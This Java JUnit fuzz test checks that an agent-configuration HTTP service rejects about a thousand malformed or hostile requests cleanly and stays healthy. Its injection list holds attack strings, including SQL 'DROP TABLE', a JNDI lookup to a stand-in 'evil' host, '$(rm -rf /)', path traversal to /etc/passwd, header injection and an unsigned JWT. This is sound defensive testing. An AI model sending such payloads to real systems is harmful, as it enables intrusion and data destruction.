package dev.agentconfig.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.stream.Stream;

import com.fasterxml.jackson.databind.JsonNode;
import dev.agentconfig.testing.ServiceTestSupport;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/**
 * More than a thousand generated hostile requests through the real HTTP server: every answer is
 * a 4xx problem+json, the service stays healthy, and no configuration is written anywhere.
 */
class HostileInputTest extends ServiceTestSupport {
    private static final Logger LOG = LoggerFactory.getLogger(HostileInputTest.class);
    private static final String USER = "0b6f9c1e-2a3d-4e5f-8a9b-0c1d2e3f4a5b";
    private final Random random = new Random(20261126L);

    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "x'); DROP TABLE user_profiles;--", "${jndi:ldap://evil/a}", "{{7*7}}", "<script>alert(1)</script>",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%00", "\u0000", "$(rm -rf /)", "`id`", "#{1+1}",
            "%2e%2e%2f%2e%2e%2f", "\u202eevil", "\u200bzero\u200bwidth", "\uff41\uff43\uff4d\uff45", "a\r\nX-Injected: 1",
            "🙂", "\ud800", "-0", "[]", "{}", "a b", "", " ");

    private HttpRequest.Builder request(String path) {
        return HttpRequest.newBuilder(URI.create(baseUrl() + path)).header("Authorization", "Bearer " + serviceToken);
    }

    private String randomString(int max) {
        int n = random.nextInt(max) + 1;
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append((char) random.nextInt(0x3000));
        }
        return sb.toString();
    }

    private static String enc(String s) {
        return java.net.URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private List<Supplier<HttpRequest.Builder>> generators() {
        String ok = "/api/v1/agent-config/acme/" + USER;
        List<Supplier<HttpRequest.Builder>> g = new ArrayList<>();
        // random bytes as a JSON body
        g.add(() -> {
            byte[] b = new byte[random.nextInt(2000) + 1];
            random.nextBytes(b);
            return request(ok).header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofByteArray(b));
        });
        // deep nesting
        g.add(() -> {
            int depth = 65 + random.nextInt(3000);
            String open = random.nextBoolean() ? "[" : "{\"a\":";
            String close = open.equals("[") ? "]" : "}";
            String body = "{\"callAgentId\":" + open.repeat(depth) + "1" + close.repeat(depth) + "}";
            return request(ok).header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofString(body));
        });
        // huge numbers and odd numeric forms
        g.add(() -> {
            String n = switch (random.nextInt(4)) {
                case 0 -> "9".repeat(200 + random.nextInt(5000));
                case 1 -> "1e" + random.nextInt(Integer.MAX_VALUE);
                case 2 -> "-0." + "0".repeat(300) + "1";
                default -> "NaN";
            };
            return request(ok).header("Content-Type", "application/json")
                    .PUT(HttpRequest.BodyPublishers.ofString("{\"smsAgentId\":" + n + "}"));
        });
        // unicode tricks and injection strings as values
        g.add(() -> {
            String field = List.of("callAgentId", "smsAgentId", "retellApiKey").get(random.nextInt(3));
            // every value breaks its field's rule (a non-ASCII character and a space at the least)
            String v = (random.nextBoolean() ? INJECTIONS.get(random.nextInt(INJECTIONS.size())) : randomString(40)) + " \u00e9";
            String body = "{\"" + field + "\":\"" + new String(com.fasterxml.jackson.core.io.JsonStringEncoder.getInstance()
                    .quoteAsString(v)) + "\"}";
            return request(ok).header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofString(body));
        });
        // invalid UTF-8, BOM, NUL, control characters in the raw body
        g.add(() -> {
            byte[][] bodies = {
                    {(byte) 0xC0, (byte) 0xAF},
                    {'{', '"', 'c', 'a', 'l', 'l', 'A', 'g', 'e', 'n', 't', 'I', 'd', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'},
                    {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'},
                    {'{', 0, '}'},
                    "{\"callAgentId\":\"a\"}\u0000".getBytes(StandardCharsets.UTF_8),
                    "{\"callAgentId\":\"a\",}".getBytes(StandardCharsets.UTF_8),
                    "{'callAgentId':'a'}".getBytes(StandardCharsets.UTF_8),
                    "{\"callAgentId\":\"a\"/*x*/}".getBytes(StandardCharsets.UTF_8)};
            return request(ok).header("Content-Type", "application/json")
                    .PUT(HttpRequest.BodyPublishers.ofByteArray(bodies[random.nextInt(bodies.length)]));
        });
        // traversal and injection in the identifiers
        g.add(() -> {
            String bad = INJECTIONS.get(random.nextInt(INJECTIONS.size()));
            boolean inTenant = random.nextBoolean();
            String path = "/api/v1/agent-config/" + (inTenant ? enc(bad) : "acme") + "/" + (inTenant ? USER : enc(bad));
            return request(path).header("Content-Type", "application/json")
                    .PUT(HttpRequest.BodyPublishers.ofString("{\"callAgentId\":\"fine\"}"));
        });
        // wrong methods
        g.add(() -> {
            String m = List.of("DELETE", "PATCH", "POST", "TRACE").get(random.nextInt(4));
            return request(ok).header("Content-Type", "application/json")
                    .method(m, HttpRequest.BodyPublishers.ofString("{\"callAgentId\":\"a\"}"));
        });
        // wrong content types
        g.add(() -> {
            String type = List.of("text/plain", "application/xml", "multipart/form-data; boundary=x", "application/json; charset=utf-16",
                    "*/*", "application/javascript").get(random.nextInt(6));
            return request(ok).header("Content-Type", type).PUT(HttpRequest.BodyPublishers.ofString("{\"callAgentId\":\"a\"}"));
        });
        // oversize bodies
        g.add(() -> request(ok).header("Content-Type", "application/json")
                .PUT(HttpRequest.BodyPublishers.ofString("{\"callAgentId\":\"" + "x".repeat(16_400 + random.nextInt(60_000)) + "\"}")));
        // unknown paths
        g.add(() -> request("/" + enc(randomString(20))).GET());
        // no or odd credentials
        g.add(() -> HttpRequest.newBuilder(URI.create(baseUrl() + ok)).header("Content-Type", "application/json")
                .header("Authorization", List.of("Bearer " + randomString(30).replaceAll("[^ -~]", "x"), "Basic Zm9vOmJhcg==",
                        "Bearer e30.e30.", "Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.").get(random.nextInt(4)))
                .PUT(HttpRequest.BodyPublishers.ofString("{\"callAgentId\":\"a\"}")));
        return g;
    }

    @Test
    void aThousandHostileRequestsAreAllCleanProblems() throws Exception {
        List<Supplier<HttpRequest.Builder>> generators = generators();
        Map<Integer, Integer> byStatus = new TreeMap<>();
        int total = 1_100;
        for (int i = 0; i < total; i++) {
            HttpResponse<String> r = send(generators.get(i % generators.size()).get());
            byStatus.merge(r.statusCode(), 1, Integer::sum);
            assertThat(r.statusCode()).as("request %d answered %s", i, r.body()).isBetween(400, 499);
            assertThat(r.headers().firstValue("Content-Type")).as("request %d", i).hasValue("application/problem+json");
            JsonNode p = json(r);
            assertThat(p.get("status").asInt()).isEqualTo(r.statusCode());
            assertThat(p.get("detail").asText()).isNotBlank();
            assertThat(r.body()).doesNotContain("Exception").doesNotContain("\tat ").doesNotContain("<html");
        }
        LOG.info("Hostile requests: {} sent, answers by status {}", total, byStatus);

        HttpResponse<String> health = send(HttpRequest.newBuilder(URI.create(baseUrl() + "/observe/health")).GET());
        assertThat(health.statusCode()).as(health.body()).isEqualTo(200);
        assertThat(json(health).get("status").asText()).isEqualTo("UP");
        assertThat(query("SELECT count(*) AS n FROM public.user_profiles").get(0).get("n")).isEqualTo(0L);
        assertThat(query("SELECT count(*) AS n FROM public.user_settings").get(0).get("n")).isEqualTo(0L);
        Path store = dataDir.resolve("local-store");
        try (Stream<Path> files = Files.walk(store)) {
            assertThat(files.filter(Files::isRegularFile).toList()).isEmpty();
        }
        // and it still works
        assertThat(put("acme", USER, "{\"callAgentId\":\"after_the_storm\"}").statusCode()).isEqualTo(200);
    }
}
